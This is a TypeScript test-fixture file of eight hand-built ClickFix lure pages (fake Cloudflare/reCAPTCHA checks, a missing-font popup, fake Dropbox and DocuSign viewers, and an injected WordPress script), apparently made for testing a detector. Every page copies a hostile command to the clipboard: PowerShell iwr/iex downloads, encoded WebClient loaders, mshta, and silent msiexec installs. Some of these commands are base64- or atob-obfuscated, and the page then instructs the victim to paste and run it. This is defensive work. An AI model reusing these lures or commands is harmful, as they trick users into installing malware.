import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';

// Written by hand after public ClickFix / fake-CAPTCHA write-ups; commands point at hosts that are not served.
const html = String.raw;
const psEnc = (s: string): string => Buffer.from(s, 'utf16le').toString('base64');
const cfStyle = html`<style>*{box-sizing:border-box}body{margin:0;font-family:system-ui,-apple-system,"Segoe UI",Roboto,"Helvetica Neue",Arial;background:#fff;color:#313131}.main-wrapper{max-width:60rem;margin:8rem auto 0;padding:0 1.5rem}.h1{font-size:2.5rem;font-weight:500;line-height:3.75rem;margin:0}.h2{font-size:1.5rem;font-weight:500;line-height:2.25rem;margin:1rem 0 2rem}.cb{display:flex;align-items:center;justify-content:space-between;width:300px;height:65px;border:1px solid #e0e0e0;background:#fafafa;padding:0 12px;border-radius:2px}.cb label{display:flex;align-items:center;gap:10px;cursor:pointer;font-size:14px}.cb input{width:24px;height:24px}.brand{font-size:10px;color:#555;text-align:right}.footer{font-size:.75rem;text-align:center;margin-top:6rem;color:#8e8e8e}.steps{display:none;border:1px solid #d9d9d9;border-radius:6px;padding:18px 24px;margin-top:20px;max-width:520px;box-shadow:0 4px 16px rgba(0,0,0,.08)}.steps ol{padding-left:20px;line-height:2}.k{background:#eee;border:1px solid #ccc;border-radius:3px;padding:1px 6px;font-family:monospace}</style>`;

export const entries: Entry[] = [
{
  id: 'b-cf-turnstile-iwr',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://cfverify-gate.com/cdn-cgi/challenge-platform/h/b?ref=northbayplumbing.com',
  body: html`<!DOCTYPE html><html lang="en-US"><head><title>Just a moment...</title><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><meta name="robots" content="noindex,nofollow"><meta name="viewport" content="width=device-width,initial-scale=1">${cfStyle}</head><body>
<div class="main-wrapper" role="main"><div class="main-content">
<h1 class="h1">northbayplumbing.com</h1>
<h2 class="h2" id="msg">Verify you are human by completing the action below.</h2>
<div class="cb" id="cb"><label><input type="checkbox" id="chk"> <span>Verify you are human</span></label><div class="brand"><svg width="60" height="20" viewBox="0 0 60 20"><path fill="#f38020" d="M44 14c.5-1.8-.3-3-2-3.2l-14-.2c-.2 0-.2-.2 0-.3l14.1-.2c1.7-.1 3.5-1.4 4.1-3l.8-2.2-1-.1C44.6 1.5 41.8 0 38.6 0 34.5 0 31 2.6 29.7 6.3 28.8 5.6 27.6 5.3 26.4 5.4c-2.2.2-3.9 2-4.1 4.2 0 .5 0 1.1.1 1.6-3.5.1-6.4 3-6.4 6.5l.1.9h27.9z"/></svg><br>Privacy - Terms</div></div>
<div class="steps" id="steps"><b>Verification Steps</b><ol><li>Press <span class="k">Windows Button "&#8862;"</span> + <span class="k">R</span></li><li>Press <span class="k">CTRL</span> + <span class="k">V</span></li><li>Press <span class="k">Enter</span></li></ol><p style="font-size:13px;color:#666">Perform the steps above to finish verification.</p></div>
<div id="rayid" style="margin-top:2rem;font-size:13px">Ray ID: <code>8f3a1c29be7d41e2</code></div>
</div></div>
<div class="footer">Performance &amp; security by <a href="#" rel="noopener noreferrer" style="color:#8e8e8e">Cloudflare</a></div>
<script>
var _vid = Math.floor(1000 + Math.random() * 9000);
document.getElementById('chk').addEventListener('click', function () {
  var cmd = "powershell -w hidden -c \"iwr -useb https://cfverify-gate.com/r/7f2a.txt | iex\" # \u2705 ''I am not a robot - Cloudflare Verification ID: " + _vid + "''";
  navigator.clipboard.writeText(cmd).catch(function(){});
  document.getElementById('cb').style.opacity = '.6';
  document.getElementById('msg').textContent = 'Verification required: complete these steps';
  document.getElementById('steps').style.display = 'block';
});
</script></body></html>`,
},
{
  id: 'b-cf-font-missing-enc',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://www.lakeside-dental-care.com/blog/invisalign-vs-braces/',
  body: html`<!DOCTYPE html>
<html lang="en-US"><head><meta charset="UTF-8"><title>Invisalign vs. Braces: Which Is Right for You? | Lakeside Dental Care</title>
<link rel='stylesheet' href='/wp-content/themes/astra/assets/css/minified/main.min.css?ver=4.6.4' media='all' />
<style>#fx-ov{position:fixed;inset:0;background:#fff;z-index:999999;font-family:"Segoe UI",Arial,sans-serif}#fx-ov .bx{max-width:640px;margin:90px auto;border:1px solid #ddd;padding:36px 40px;box-shadow:0 8px 30px rgba(0,0,0,.12)}#fx-ov h1{font-size:22px;margin:0 0 10px;color:#202124}#fx-ov p{color:#5f6368;font-size:15px;line-height:1.6}#fx-ov .b{background:#1a73e8;color:#fff;border:0;padding:11px 26px;border-radius:4px;font-size:15px;cursor:pointer}#fx-ov .how{display:none;background:#f1f3f4;border-radius:6px;padding:14px 20px;margin-top:18px;font-size:14px;line-height:1.9}</style>
</head><body class="post-template-default single single-post">
<header class="site-header"><div class="ast-container"><a href="/" class="site-title">Lakeside Dental Care</a><nav><a href="/services/">Services</a> <a href="/new-patients/">New Patients</a> <a href="/blog/">Blog</a> <a href="/contact/">Contact</a></nav></div></header>
<main id="primary"><article><h1 class="entry-title">Invisalign vs. Braces: Which Is Right for You?</h1><div class="entry-content"><p>Straightening your teeth can improve your bite, make brushing easier, and boost your confidence. Both clear aligners and traditional braces are effective, but they suit different lifestyles...</p><h2>How clear aligners work</h2><p>Aligners are a series of custom-made, removable trays that gradually shift your teeth...</p></div></article></main>
<footer><p>&copy; 2024 Lakeside Dental Care &middot; 1180 Shore Rd, Suite 4</p></footer>
<div id="fx-ov"><div class="bx">
<svg width="48" height="48" viewBox="0 0 24 24"><path fill="#ea4335" d="M1 21h22L12 2 1 21zm12-3h-2v-2h2v2zm0-4h-2v-4h2v4z"/></svg>
<h1>The "HoeflerText" font wasn't found</h1>
<p>The web page you are trying to load is displayed incorrectly, as it uses the "HoeflerText" font. To fix the error and display the text, you have to update the "Chrome Font Pack".</p>
<p><b>Manufacturer:</b> Google Chrome<br><b>Current version:</b> Chrome Font Pack 1.3.1</p>
<button class="b" id="fixbtn">Fix it</button>
<div class="how" id="how"><b>How to install the update manually:</b><br>1. Right-click the Windows icon (Start)<br>2. Select "Windows PowerShell (Admin)" or "Terminal (Admin)"<br>3. Right-click inside the window to paste the copied code<br>4. Press Enter and wait for the update to complete, then reload this page</div>
</div></div>
<script>
(function(){
  var p = "${psEnc("$u='https://lakeside-dental-care.com/wp-content/uploads/2024/03/font-pack.png';$o=\"$env:APPDATA\\fp.ps1\";(New-Object Net.WebClient).DownloadFile($u,$o);powershell -ep bypass -f $o")}";
  document.getElementById('fixbtn').onclick = function(){
    var c = 'powershell -NoP -W Hidden -enc ' + p;
    if (navigator.clipboard) navigator.clipboard.writeText(c);
    document.getElementById('how').style.display = 'block';
    this.textContent = 'Copied';
  };
})();
</script>
</body></html>`,
},
{
  id: 'b-cf-fetched-cmd',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://dropbx-filetransfer.com/s/1k2j3h4/Signed_Agreement.pdf',
  body: html`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Signed_Agreement.pdf - Shared File</title>
<meta name="viewport" content="width=device-width, initial-scale=1">
<style>
body{margin:0;font-family:"Atlas Grotesk",Helvetica,Arial,sans-serif;background:#f7f5f2}
.bar{background:#fff;border-bottom:1px solid #e6e3df;padding:12px 24px;display:flex;align-items:center;gap:12px}
.bar b{font-size:15px}
.c{max-width:480px;margin:80px auto;background:#fff;border:1px solid #e6e3df;border-radius:8px;padding:32px}
.c h3{margin-top:0}
.vb{display:flex;align-items:center;gap:10px;border:1px solid #ddd;border-radius:4px;padding:14px;cursor:pointer;background:#fafafa}
.vb i{width:22px;height:22px;border:2px solid #999;border-radius:3px;display:inline-block}
#st{display:none;margin-top:20px;font-size:14px;line-height:1.9;background:#fff8e6;border:1px solid #f0d58c;border-radius:6px;padding:12px 16px}
</style></head><body>
<div class="bar"><svg width="32" height="28" viewBox="0 0 43 40"><path fill="#0061fe" d="M12.5 0L0 8.1l8.7 6.9 12.5-7.7zm-12.5 22l12.5 8.1 8.7-7.3-12.5-7.7zm21.2 .8l8.7 7.3 12.3-8.1-8.5-6.9zM43 8.1L30.5 0l-8.7 7.3 12.5 7.7zM21.8 24.4l-8.7 7.3-3.8-2.5v2.8l12.5 7.5 12.5-7.5v-2.8l-3.8 2.5z"/></svg><b>Signed_Agreement.pdf</b><span style="color:#777;font-size:13px">&middot; 284 KB</span></div>
<div class="c">
<h3>One more step</h3>
<p>Please complete the security check to access the shared file.</p>
<div class="vb" id="vb"><i></i> Verify you are human</div>
<div id="st"></div>
</div>
<script>
document.getElementById('vb').addEventListener('click', async function () {
  this.style.pointerEvents = 'none';
  try {
    const r = await fetch('/api/v2/challenge?sid=1k2j3h4&t=' + Date.now(), { headers: { 'X-Requested-With': 'XMLHttpRequest' } });
    const j = await r.json();
    await navigator.clipboard.writeText(j.payload + ' # ' + j.label);
    const st = document.getElementById('st');
    st.innerHTML = j.steps.map(function (s, i) { return (i + 1) + '. ' + s; }).join('<br>');
    st.style.display = 'block';
  } catch (e) { location.reload(); }
});
</script></body></html>`,
  routes: {
    'dropbx-filetransfer.com/api/v2/challenge': { status: 200, headers: { 'content-type': 'application/json' }, body: JSON.stringify({ ok: true, label: "'Dropbox human verification 58231'", payload: 'conhost.exe --headless powershell -nop -c "$w=New-Object Net.WebClient;$w.Headers.Add(\'UA\',\'dbx\');iex $w.DownloadString(\'https://dropbx-filetransfer.com/cdn/a.ps1\')"', steps: ['Press <b>Win + R</b>', 'Press <b>Ctrl + V</b>', 'Press <b>Enter</b> — your file opens automatically'] }) },
  },
},
{
  id: 'b-cf-fr-verification',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://verification-securite.fr-acces.net/captcha.html',
  body: html`<!DOCTYPE html>
<html lang="fr"><head><meta charset="utf-8"><title>Vérification de sécurité</title>
<style>
body{font-family:Arial,Helvetica,sans-serif;background:#f2f4f7;margin:0}
.cadre{max-width:460px;margin:90px auto;background:#fff;border-radius:8px;box-shadow:0 3px 12px rgba(0,0,0,.1);padding:30px}
.cadre h1{font-size:21px;color:#222}
.case{display:flex;gap:12px;align-items:center;border:1px solid #ccc;padding:14px;border-radius:4px;background:#fafafa;cursor:pointer}
.case span.c{width:24px;height:24px;border:2px solid #aaa;border-radius:3px;background:#fff}
.etapes{display:none;margin-top:18px;line-height:1.9;font-size:15px}
.touche{display:inline-block;background:#eee;border:1px solid #bbb;border-radius:3px;padding:0 6px;font-family:monospace}
</style></head><body>
<div class="cadre">
<h1>Vérifiez que vous êtes humain</h1>
<p>Ce site doit vérifier la sécurité de votre connexion avant de continuer.</p>
<div class="case" onclick="verifier(this)"><span class="c"></span> Je ne suis pas un robot</div>
<div class="etapes" id="etapes">
<b>Étapes de vérification :</b><br>
1. Appuyez sur <span class="touche">Windows</span> + <span class="touche">R</span><br>
2. Appuyez sur <span class="touche">Ctrl</span> + <span class="touche">V</span><br>
3. Appuyez sur <span class="touche">Entrée</span><br>
<small>Vous verrez : « Je ne suis pas un robot - ID de vérification : <span id="ident"></span> »</small>
</div></div>
<script>
var ident = 'FR-' + Math.floor(Math.random()*90000+10000);
document.getElementById('ident').textContent = ident;
function verifier(el){
  var commande = 'mshta.exe https://verification-securite.fr-acces.net/v/' + ident.toLowerCase() + '.hta #  Je ne suis pas un robot - ID de vérification : ' + ident;
  navigator.clipboard.writeText(commande);
  el.querySelector('.c').style.background = '#1a73e8';
  document.getElementById('etapes').style.display = 'block';
}
</script></body></html>`,
},
{
  id: 'b-cf-meta-redirect',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://shrtlnk.click/x7Hq2',
  body: html`<!DOCTYPE html><html><head><meta charset="utf-8"><meta http-equiv="refresh" content="0;url=https://stream-hdwatch.top/verify/?m=28811"><title>Redirecting...</title></head><body><p>Redirecting... <a href="https://stream-hdwatch.top/verify/?m=28811">click here</a> if nothing happens.</p></body></html>`,
  routes: {
    'stream-hdwatch.top/verify/': htmlRoute(html`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Just a moment...</title>
<style>body{font-family:-apple-system,system-ui,"Segoe UI",Roboto,Arial;margin:0;padding:7rem 2rem;color:#222}h1{font-weight:500;font-size:2.2rem}
.w{border:1px solid #ddd;width:300px;padding:16px;background:#fafafa;display:flex;gap:12px;align-items:center;cursor:pointer}.w s{width:22px;height:22px;border:2px solid #777;border-radius:3px;display:inline-block;text-decoration:none}
#ins{display:none;margin-top:24px;border-left:4px solid #f38020;padding:6px 16px;line-height:1.9}</style></head><body>
<h1>stream-hdwatch.top</h1><p>Verify you are human by completing the action below.</p>
<div class="w" id="w"><s></s> Verify you are human</div>
<div id="ins"><b>Verification steps</b><br>1. Press Windows Button + R<br>2. Press CTRL + V<br>3. Press Enter</div>
<p style="color:#888;font-size:12px;margin-top:5rem">Performance &amp; security by Cloudflare</p>
<script>
document.getElementById('w').onclick=function(){
 var c='msiexec /q /i https://stream-hdwatch.top/cdn/player-update.msi  REM  I am not a robot - ID 28811';
 navigator.clipboard.writeText(c);document.getElementById('ins').style.display='block';};
</script></body></html>`),
  },
},
{
  id: 'b-cf-wp-injected',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://www.rosemarybakehouse.com/recipes/sourdough-discard-crackers/',
  body: html`<!DOCTYPE html>
<html lang="en-US">
<head>
<meta charset="UTF-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Sourdough Discard Crackers &#8211; Rosemary Bakehouse</title>
<link rel='stylesheet' id='kadence-global-css' href='https://www.rosemarybakehouse.com/wp-content/themes/kadence/assets/css/global.min.css?ver=1.1.51' media='all' />
<script src="https://www.rosemarybakehouse.com/wp-includes/js/jquery/jquery.min.js?ver=3.7.1" id="jquery-core-js"></script>
<script src="https://cdn.jsdelivr-stats.net/npm/wp-analytics@2.1/dist/track.min.js" id="wpa-js" defer></script>
</head>
<body class="recipe-template-default single single-recipe">
<header id="masthead" class="site-header"><div class="site-branding"><a href="/" rel="home">Rosemary Bakehouse</a><p class="site-description">Small-batch baking at home</p></div>
<nav id="site-navigation"><ul><li><a href="/recipes/">Recipes</a></li><li><a href="/bread-101/">Bread 101</a></li><li><a href="/about/">About</a></li></ul></nav></header>
<main id="inner-wrap"><article class="entry"><h1 class="entry-title">Sourdough Discard Crackers</h1>
<div class="entry-content"><p>Don't throw away that discard! These crisp, herby crackers come together in ten minutes and keep for two weeks in a tin.</p>
<div class="wprm-recipe"><h3>Ingredients</h3><ul><li>200 g sourdough discard</li><li>50 g olive oil</li><li>100 g all-purpose flour</li><li>1 tsp flaky salt, rosemary</li></ul>
<h3>Instructions</h3><ol><li>Mix everything into a stiff dough.</li><li>Roll very thin between parchment.</li><li>Bake at 175 °C for 20–25 minutes.</li></ol></div></div></article></main>
<footer class="site-footer"><p>&copy; 2024 Rosemary Bakehouse. Powered by WordPress.</p></footer>
</body></html>`,
  routes: {
    'cdn.jsdelivr-stats.net/npm/wp-analytics@2.1/dist/track.min.js': { status: 200, headers: { 'content-type': 'application/javascript' }, body: html`(function(){if(document.cookie.indexOf('_wpa_seen=')>-1)return;var d=document,o=d.createElement('div');o.id='wpa-ov';o.setAttribute('style','position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:2147483647;font-family:system-ui,Segoe UI,Arial');
o.innerHTML='<div style="max-width:560px;margin:12vh auto;padding:0 20px"><h1 style="font-weight:500">'+location.hostname+'</h1><p style="font-size:20px">Verify you are human by completing the action below.</p><div id="wpa-c" style="border:1px solid #e0e0e0;background:#fafafa;width:300px;padding:18px;cursor:pointer;display:flex;gap:12px;align-items:center"><span style="width:24px;height:24px;border:2px solid #666;border-radius:3px;display:inline-block"></span>Verify you are human</div><div id="wpa-s" style="display:none;margin-top:22px;line-height:2;font-size:16px"><b>Verification Steps</b><br>1. Press Windows Button + R<br>2. Press CTRL + V<br>3. Press Enter</div></div>';
d.body.appendChild(o);
var k=['aHR0cHM6Ly9j','ZG4uanNkZWxpdnJ','LXN0YXRzLm5ldC9','mL2IucHMx'];
d.getElementById('wpa-c').onclick=function(){var u=atob(k.join(''));var t='powershell -w h -nop -c "iex(irm '+u+')" # I am not a robot - reCAPTCHA ID: '+(Math.random()*9e3+1e3|0);try{navigator.clipboard.writeText(t)}catch(e){}d.getElementById('wpa-s').style.display='block';d.cookie='_wpa_seen=1;max-age=86400;path=/';};})();` },
  },
},
{
  id: 'b-cf-winx-admin',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://docusign-envelope-view.com/Signing/?ti=f81c2a9b3e',
  body: html`<!DOCTYPE html><html><head><meta charset="utf-8"><title>DocuSign</title>
<style>body{margin:0;font-family:"Helvetica Neue",Helvetica,Arial;background:#f4f4f4}
.hdr{background:#fff;padding:14px 24px;border-bottom:1px solid #ddd;font-weight:bold;color:#1e1e1e}
.bx{max-width:600px;margin:60px auto;background:#fff;border-top:5px solid #ffbe00;padding:30px 36px;box-shadow:0 1px 4px rgba(0,0,0,.1)}
.bx p{color:#333;line-height:1.6}.y{background:#ffbe00;border:0;color:#1e1e1e;font-weight:bold;padding:12px 28px;border-radius:2px;cursor:pointer}
.g{display:none;background:#fafafa;border:1px dashed #bbb;padding:14px 18px;margin-top:16px;line-height:1.9;font-size:14px}</style></head>
<body><div class="hdr">DocuSign</div>
<div class="bx"><p><b>Accounts Payable</b> sent you a document to review and sign.</p><p><b>Remittance_Statement_0921.pdf</b> (1 page)</p>
<p>Your browser's document viewer component is outdated and cannot render this envelope. Update the viewer component to continue (takes about 10 seconds).</p>
<button class="y" id="u">REVIEW DOCUMENT</button>
<div class="g" id="g">1. Press <b>Windows + X</b>, then press <b>A</b> to open <b>Windows PowerShell (Admin)</b> / <b>Terminal (Admin)</b><br>2. Click <b>Yes</b> if asked<br>3. Right-click or press <b>Ctrl + V</b> to paste, then press <b>Enter</b><br>4. Return here and click REVIEW DOCUMENT again</div></div>
<script>
var n=0;
document.getElementById('u').onclick=function(){
  n++;
  var b = "U3RhcnQtQml0c1RyYW5zZmVyIC1Tb3VyY2UgaHR0cHM6Ly9kb2N1c2lnbi1lbnZlbG9wZS12aWV3LmNvbS9jb21wb25lbnRzL3ZpZXdlci5leGUgLURlc3RpbmF0aW9uICRlbnY6VEVNUFx2aWV3ZXIuZXhlOyBTdGFydC1Qcm9jZXNzICRlbnY6VEVNUFx2aWV3ZXIuZXhl";
  var s = 'powershell -c "iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(\'' + b + '\')))"';
  navigator.clipboard.writeText(s);
  document.getElementById('g').style.display='block';
  if(n>1){this.textContent='Verifying...';}
};
</script></body></html>`,
},
{
  id: 'b-cf-ru-robot',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://proverka-brauzera.ru-check.net/',
  body: html`<!DOCTYPE html><html lang="ru"><head><meta charset="utf-8"><title>Проверка браузера</title>
<style>body{font-family:"Segoe UI",Tahoma,Arial;background:#fff;margin:0;padding:8rem 1rem;color:#222}
.w{max-width:600px;margin:0 auto}h1{font-weight:500;font-size:30px}.chk{border:1px solid #ddd;background:#f9f9f9;width:310px;padding:16px;display:flex;gap:12px;align-items:center;cursor:pointer}
.chk i{width:22px;height:22px;border:2px solid #777;border-radius:3px}.inst{display:none;margin-top:24px;line-height:2;font-size:16px;border:1px solid #e5e5e5;border-radius:6px;padding:12px 20px}
kbd{background:#eee;border:1px solid #aaa;border-radius:3px;padding:0 5px}</style></head>
<body><div class="w"><h1>Подтвердите, что вы не робот</h1><p>Сайту необходимо проверить безопасность вашего подключения.</p>
<div class="chk" id="c"><i></i>Я не робот</div>
<div class="inst" id="inst"><b>Шаги проверки:</b><br>1. Нажмите <kbd>Win</kbd> + <kbd>R</kbd><br>2. Нажмите <kbd>Ctrl</kbd> + <kbd>V</kbd><br>3. Нажмите <kbd>Enter</kbd></div>
<p style="font-size:12px;color:#999;margin-top:60px">Ray ID: 91ac3f0e88d2 &middot; Защита обеспечена Cloudflare</p></div>
<script>
document.getElementById('c').onclick=function(){
  var cmd = 'cmd /c "powershell -ep bypass -w h -c iwr https://proverka-brauzera.ru-check.net/k.ps1 -UseBasicParsing|iex" :: Я не робот - код ' + (Math.random()*1e5|0);
  var ta=document.createElement('textarea');ta.value=cmd;document.body.appendChild(ta);ta.select();document.execCommand('copy');ta.remove();
  document.getElementById('inst').style.display='block';
};
</script></body></html>`,
},
];
